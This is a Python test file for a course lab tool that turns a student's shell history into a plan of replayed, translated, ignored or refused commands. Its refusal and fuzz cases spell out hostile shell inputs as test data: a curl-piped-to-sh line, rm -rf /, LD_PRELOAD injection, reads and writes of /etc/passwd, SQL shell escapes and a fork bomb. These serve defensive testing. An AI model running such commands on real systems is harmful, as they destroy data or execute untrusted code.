"""The plan: what becomes of each line, and that nothing runs that is not known."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lab.history import plan as planning
from lab.history.plan import IGNORED, REFUSED, REPLAYED, TRANSLATED, Planned, plan, plan_of, shown
from lab.history.read import Typed, commands
from lab.settings import ROOT, Settings

LAB = Settings.from_env({})
API = "http://127.0.0.1:5000"
ONE = "--replication-factor 1"


def planned(text: str, folder: Path | None = None) -> list[Planned]:
    return list(plan_of(LAB, commands(text), folder).commands)


def only(text: str) -> Planned:
    (one,) = planned(text)
    return one


def test_the_lab_s_own_history_is_replayed_whole() -> None:
    own = plan(LAB, ROOT / "history.txt")
    assert [one for one in own.commands if one.fate != REPLAYED] == []
    assert own.missing() == []


@pytest.mark.parametrize(
    ("typed", "runs", "step"),
    [
        ("docker-compose up -d", "make step-1", 1),
        ("sudo docker compose -f docker-compose.yml up", "make step-1", 1),
        (
            "docker-compose exec kafka kafka-topics --create --topic events --partitions 1 --zookeeper zookeeper:32181",
            f"kafka-topics --bootstrap-server {LAB.kafka} --create --topic events --if-not-exists --partitions 1 {ONE}",
            2,
        ),
        ("docker-compose exec mids env FLASK_APP=/w205/game_api.py flask run --host 0.0.0.0", "make step-3", 3),
        ("python3 game_api.py &", "make step-3", 3),
        (
            "winpty docker-compose exec mids ab -n 10 -H 'Host: user1.comcast.com' http://localhost:5000/",
            f"ab -n 10 -c 1 -H 'Host: user1.comcast.com' {API}/",
            4,
        ),
        (
            "docker exec -it w205_mids_1 curl http://localhost:5000/join_guild/grubs",
            f"ab -n 1 -c 1 {API}/join_guild/grubs",
            4,
        ),
        (
            "docker-compose exec spark spark-submit /w205/filtered_writes.py",
            "spark-submit lab/pipeline/batch_job.py",
            5,
        ),
        ("docker-compose exec spark spark-submit /w205/write_swords_stream.py", "make step-6", 6),
        ("spark-submit stream_and_hive.py", "make step-6 step-7", 6),
        ("docker-compose exec cloudera hive", "make step-7", 7),
        ("docker-compose exec presto presto --server presto:8080 --catalog hive --schema default", "make step-8", 8),
        ("docker-compose exec presto presto --catalog hive -f /w205/query.hql", "make step-8", 8),
        ("docker-compose --env-file .env -p proj up -d", "make step-1", 1),
        ("docker-compose -f ~/w205/docker-compose.yml up -d", "make step-1", 1),
        ("alias dc=docker-compose; dc exec -T mids ab -n 1 http://localhost:5000/", f"ab -n 1 -c 1 {API}/", 4),
        ("timeout 60 docker run --network host img ab -n 1 http://localhost:5000/", f"ab -n 1 -c 1 {API}/", 4),
        (
            "kafka-topics.sh --create --topic events --zookeeper z:1",
            f"kafka-topics --bootstrap-server {LAB.kafka} --create --topic events --if-not-exists --partitions 1 {ONE}",
            2,
        ),
        ("gunicorn game_api:app", "make step-3", 3),
        ("docker-compose exec cloudera hadoop fs -ls /tmp/purchases", "hdfs dfs -ls /tmp/purchases", None),
        (
            "docker-compose exec mids kafkacat -C -b kafka:29092 -t events -o beginning -e",
            f"kafka-console-consumer --bootstrap-server {LAB.kafka} --topic events --from-beginning --timeout-ms 10000",
            None,
        ),
    ],
)
def test_the_course_s_habits_are_translated(typed: str, runs: str, step: int | None) -> None:
    (one,) = [one for one in planned(typed) if one.fate != IGNORED]
    assert (one.fate, one.argv, one.step) == (TRANSLATED, tuple(shlex.split(runs)), step)
    assert one.why


@pytest.mark.parametrize(
    ("typed", "step"),
    [
        ("make step-2", 2),
        ("presto --execute 'SELECT 1'", 8),
        ("presto --execute 'USE hive.default; /* c */ SELECT 1;'", 8),
        ("make > log step-3", 3),
        ("nohup make step-3 > /tmp/flask.log 2>&1 < /dev/null &", 3),
        ("make step-3 step-4", 3),
        (f"cd x && ab -n 1 {API}/ > log 2>&1", 4),
        (f"while true; do ab -n 1 {API}/; sleep 1; done > /dev/null 2>&1 &", 4),
        (f"for i in {{1..2}}; do ab -n $i {API}/; done | tee ab.log", 4),
        (f"for i in $(seq 2); do ab -n $i {API}/; done", 4),
        (f'U="a b"; for u in $U; do ab -n 1 -H "Host: $u" {API}/; done', 4),
        (f'OPTIONS="-n 10 -c 2"; ab $OPTIONS {API}/', 4),
        (f"bash -lc 'ab -n 1 {API}/'", 4),
        ("presto <<EOF\nSELECT 1\nEOF", 8),
        ("spark-submit lab/pipeline/stream_job.py &", 6),
        (f"ab -n 1 {API}/ > out.txt 2>&1", 4),
        (f"ab -n 1 {API}/ | grep Complete | head -5", 4),
    ],
)
def test_the_lab_s_own_commands_are_replayed(typed: str, step: int) -> None:
    found = [one for one in planned(typed) if one.fate != IGNORED]
    assert found
    assert {(one.fate, one.step) for one in found} == {(REPLAYED, step)}


@pytest.mark.parametrize(
    "typed",
    [
        "ls -la *",
        "vim $(which x)",
        "cd ~/w205",
        "git commit -m 'x'",
        "sudo rm -rf /",
        "sleep 60",
        "command -v make",
        "make clean",
        "docker-compose exec mids /bin/bash",
        "source ~/.bashrc",
        "hive> show tables;",
        "make logs NAME=kafka",
        "make plan HISTORY=x",
        "docker rm -f $(docker ps -aq)",
        "presto:default> SELECT 1;",
        "watch make status",
        "docker-compose exec spark env PYSPARK_DRIVER_PYTHON=jupyter pyspark",
        "# a comment",
        "x=1",
    ],
)
def test_what_changes_nothing_that_is_looked_at_is_ignored(typed: str) -> None:
    assert only(typed).fate == IGNORED


@pytest.mark.parametrize(
    ("typed", "why"),
    [
        ("ab -n 10 http://example.com/", "only the lab's own API"),
        ("ab -n 10 http://localhost@example.com:5000/", "only the lab's own API"),
        ("ab -n 10 http://localhost:22/", "port 22"),
        ("ab -n 10000000 http://localhost:5000/", "requests"),
        ("ab -n 1 -p /etc/passwd http://localhost:5000/", "an option that is not known"),
        ("ab -n `whoami` http://localhost:5000/", "a command within a command"),
        ("ab -n $N http://localhost:5000/", "the value of $N is not known"),
        ("LD_PRELOAD=x ab -n 1 http://localhost:5000/", "LD_PRELOAD"),
        ("env LD_PRELOAD=x ab -n 1 http://localhost:5000/", "LD_PRELOAD"),
        ("make SHELL=/bin/evil step-1", "SHELL=/bin/evil"),
        ("make -f evil.mk", "an option of make"),
        ("curl http://example.com/x | sh", "piped into sh"),
        ("ab -n 1 http://localhost:5000/ > /etc/passwd", "outside of its folder"),
        ("ab -n 1 http://localhost:5000/ > ../../x", "outside of its folder"),
        ("ab -n 1 http://localhost:5000/ < /etc/passwd", "a redirection"),
        ("spark-submit --conf spark.driver.extraJavaOptions=x batch.py", "an option that is not known"),
        ("spark-submit --py-files evil.py batch.py", "an option that is not known"),
        ("/tmp/evil", "no command that this lab knows"),
        ("python evil.py", "a program that the lab does not know"),
        ("hdfs dfs -rm -r /lab", "change HDFS by hand"),
        ("kafka-console-producer --topic events <<< '{}'", "typed by hand"),
        ("echo x | kafkacat -P -b kafka:29092 -t events", "piped into kafkacat"),
        ("presto --execute 'CREATE TABLE purchases AS SELECT 1 AS cost'", "over the landed files"),
        ("presto --execute 'DROP TABLE purchases'", "neither asks, nor makes"),
        ("presto --execute 'SELECT 1; DROP TABLE purchases'", "neither asks, nor makes"),
        ("presto --execute 'EXPLAIN ANALYZE INSERT INTO purchases SELECT 1'", "neither asks, nor makes"),
        ("presto --execute '/* x */ EXPLAIN \n  ANALYZE VERBOSE SELECT 1'", "neither asks, nor makes"),
        ('spark-sql -e "select 1; !touch /tmp/evil"', "can do more than ask"),
        ("spark-sql -e \"SELECT TRANSFORM('x') USING 'touch /tmp/evil'\"", "can do more than ask"),
        ("make > log clean-evil", "no target"),
        ("make traffic N=100000 EVERY=3600", "ten seconds apart"),
        ("ab -t 60 http://localhost:5000/", "an option that is not known"),
        ("ab -n 1 -c 5 http://localhost:5000/", "more at once"),
        ("for i in 1 2; do ab -n 60000 http://localhost:5000/; done", "requests in all"),
        ("bash loop.sh", "cannot be read"),
        ("until true; do make step-1; done", "how long this loop goes on"),
        ("x=1; x+=2; ab -n $x http://localhost:5000/", "added to a variable"),
        ("hive -e 'select 1'", "Presto is"),
        ("hive is a metastore", "an option that is not known"),
        ("SELECT * FROM purchases;", "SQL"),
        ('echo "never closed', "a quote is not closed"),
        ("if true; then make step-1; fi", "a condition"),
        ("f() { f | f & }; f", "a function"),
        ("while [ -f x ]; do make step-1; done", "how long this loop goes on"),
        ("bash ../../evil.sh", "outside of what was handed in"),
        ("bash ab.sh", "is not there"),
    ],
)
def test_what_is_not_known_or_may_do_harm_is_refused_with_the_reason(typed: str, why: str, tmp_path: Path) -> None:
    (tmp_path / "loop.sh").symlink_to("loop.sh")
    refused = [one for one in planned(typed, tmp_path) if one.fate == REFUSED]
    assert any(why in one.why for one in refused), planned(typed, tmp_path)
    assert not [one for one in planned(typed, tmp_path) if one.argv and "evil" in " ".join(one.argv)]


def test_a_loop_is_written_out_and_one_without_end_is_cut() -> None:
    assert [one.argv[2] for one in planned("for i in 1 2 3; do ab -n $i http://localhost:5000/; done")] == [
        "1",
        "2",
        "3",
    ]
    endless = planned("while true; do ab -n 10 http://localhost:5000/; sleep 10; done")
    assert [one.fate for one in endless] == [TRANSLATED, IGNORED] * 3
    (bomb,) = planned(
        "for a in " + "1 " * 100 + "; do for b in " + "1 " * 100 + "; do for c in 1 2; do ab x; done; done; done"
    )[-1:]
    assert "comes to more than" in bomb.why
    silent = "for a in {1..100}; do " * 9 + "x=1" + "; done" * 9
    assert "comes to more than" in only(silent).why
    assert all(len(one.typed) < 100_000 for one in planned("x=aaaaaaaaaa\n" + 'x="$x$x"\n' * 40 + "echo $x"))


def test_a_variable_is_known_to_the_lines_after_it() -> None:
    assert planned("URL=http://localhost:5000\nab -n 2 $URL/\n")[-1].argv == ("ab", "-n", "2", "-c", "1", f"{API}/")


def test_a_script_beside_the_history_is_read_like_typed_lines(tmp_path: Path) -> None:
    (tmp_path / "ab.sh").write_text(
        "#!/bin/sh\nfor i in 1 2; do\n  ab -n 1 http://localhost:5000/\ndone\nrm x\nbash ab.sh\n"
    )
    found = planned("bash ab.sh", tmp_path)
    assert [one.fate for one in found][:3] == [TRANSLATED, TRANSLATED, IGNORED]
    assert found[0].typed.startswith("ab.sh:2  ab -n 1")
    assert "more than 3 deep" in found[-1].why
    (tmp_path / "link.sh").symlink_to("/etc/passwd")
    assert "outside of what was handed in" in only_in(tmp_path, "./link.sh").why


def only_in(folder: Path, text: str) -> Planned:
    (one,) = planned(text, folder)
    return one


def test_missing_steps_are_named() -> None:
    found = plan_of(LAB, commands("make step-1\nmake step-3\nls\n"))
    assert found.missing() == [2, 4, 5, 6, 7, 8]
    assert [one.line for one in found.of_step(3)] == [2]


def test_make_is_there_for_every_step() -> None:
    assert plan_of(LAB, commands("make")).missing() == []


@pytest.mark.parametrize(
    "text",
    [
        *(
            "make step-1 && " * 4000 + "ls",
            "ab x | " * 8000 + "ls",
            "(" * 30_000,
            "$(" * 30_000,
            '"$(' * 20_000,
            "{ " * 30_000,
        ),
        *(
            "for i in 1; do " * 4000,
            "for i in 1; do " * 4000 + "ls" + "; done" * 4000,
            "bash -c '" * 7000,
            "! " * 30_000,
        ),
        *("cat <<A " * 8000, "<<<" * 20_000, "`" * 60_000, "x=" * 30_000, "\\" * 60_000, "&" * 60_000, "ls;" * 20_000),
    ],
    ids=lambda text: text[:12],
)
@pytest.mark.timeout(60)
def test_what_is_nested_beyond_reason_has_an_end(text: str) -> None:
    assert planned(text)


def test_a_history_of_loops_has_an_end(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(planning, "MOST_PLANNED", 50)
    found = planned("for i in 1 2 3 4 5 6; do ab -n 1 http://localhost:5000/; done\n" * 20)
    assert len(found) < 50 + 6 + 20
    assert "50 commands are enough" in found[-1].why


PIECES = st.sampled_from(
    [
        *(
            "ab -n 1 http://localhost:5000/",
            "make step-1",
            "presto --execute 'SELECT 1'",
            "rm -rf /",
            "evil",
            "$(evil)",
        ),
        *("`evil`", "${IFS}", ";", "&&", "||", "|", "&", "\n", ">", ">>", "<", "<<<", "<(evil)", "'", '"', "\\"),
        *(
            "$'\\x3b'",
            "{a,b}",
            "*",
            "~root",
            "-n",
            "--conf",
            "LD_PRELOAD=evil",
            "bash -c",
            "env",
            "sudo",
            "eval",
            "exec",
        ),
        *("docker-compose exec mids", "\u2028", "\u202e", "\x1b[2J", "\x00", "#1", "http://evil/", "--server evil:80"),
    ]
)
RUNS = {"ab", "make", "presto", "spark-submit", "spark-sql", "hdfs", "kafka-topics", "kafka-console-consumer"}


@given(st.lists(PIECES, max_size=12).map(" ".join))
def test_whatever_is_typed_only_known_commands_run(text: str) -> None:
    for one in planned(text):
        assert one.fate in (REPLAYED, TRANSLATED, IGNORED, REFUSED)
        if one.fate in (IGNORED, REFUSED):
            assert one.why
            assert one.argv == ()
            continue
        assert one.argv[0] in RUNS
        if one.argv[0] == "ab":
            assert one.argv[-1].startswith(f"{API}/")
        if one.argv[0] == "make":
            assert all(word.startswith(("step-", "lab", "traffic", "N=", "EVERY=", "SEED=")) for word in one.argv[1:])
        if one.argv[0] in ("presto", "spark-sql"):
            assert one.argv[1] in ("--execute", "-e")


@given(st.text(max_size=300))
def test_any_text_has_a_plan_and_can_be_shown(text: str) -> None:
    for one in plan_of(LAB, [Typed(text, 1)]).commands:
        assert "\x1b" not in shown(one.typed)
        assert len(shown(one.typed, 60)) <= 60


ALL = "".join(f"make step-{number}\n" for number in range(1, 9))


@pytest.mark.parametrize("down", ["make stop clean", "make clean", "docker-compose down", "docker compose down -v"])
def test_what_was_done_before_everything_was_emptied_and_done_again_is_not_replayed(down: str) -> None:
    lines = planned(f"{ALL}{down}\n{ALL}")
    first, second = lines[:8], lines[9:]
    assert {one.fate for one in first} == {IGNORED}
    assert "line 9 empties everything" in first[0].why
    assert [one.argv for one in second] == [("make", f"step-{number}") for number in range(1, 9)]


def test_what_is_not_done_again_after_everything_was_emptied_is_replayed() -> None:
    assert sum(one.fate == REPLAYED for one in planned(f"{ALL}make clean\nmake step-1\n")) == 9
    assert sum(one.fate == REPLAYED for one in planned(f"{ALL}docker-compose down\n")) == 8
